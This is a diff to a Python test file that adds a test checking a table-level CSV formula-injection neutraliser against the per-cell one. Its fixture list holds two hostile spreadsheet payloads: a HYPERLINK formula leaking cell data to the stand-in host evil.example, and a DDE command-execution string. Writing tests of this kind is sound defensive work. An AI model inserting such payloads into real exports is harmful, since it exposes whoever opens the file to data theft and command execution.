@@ -10,7 +10,7 @@ from pathlib import Path
 import pyarrow as pa
 from webtools import bearer
 
-from dermavigil.exchange.csvsafe import FORMULA_START, neutralise
+from dermavigil.exchange.csvsafe import FORMULA_START, neutralise, neutralise_table
 from dermavigil.signals.output import write_signals
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]
@@ -32,6 +32,14 @@ def _poisoned_case(seed_json: dict) -> dict:  # type: ignore[type-arg]
 def test_neutralise_only_touches_text_that_would_run() -> None:
     assert neutralise("=1+1") == "'=1+1" and neutralise("\t=x") == "'\t=x"
     assert neutralise("hyaluronidase") == "hyaluronidase" and neutralise(-3) == -3
+
+
+def test_neutralise_table_agrees_with_neutralise_on_every_cell() -> None:
+    cells = [*PAYLOADS, "=1", "+1", "-1", "@x", "\tx", "\rx", "ok", "", None, "a=b", " =x", "Ü"]
+    table = pa.table({"text": cells, "number": [-1.5] * len(cells)})
+    safe = neutralise_table(table)
+    assert safe["text"].to_pylist() == [neutralise(c) for c in cells]
+    assert safe["number"] == table["number"] and safe.schema == table.schema
 
 
 def test_every_web_csv_is_neutralised(client, seed_json) -> None:  # type: ignore[no-untyped-def]
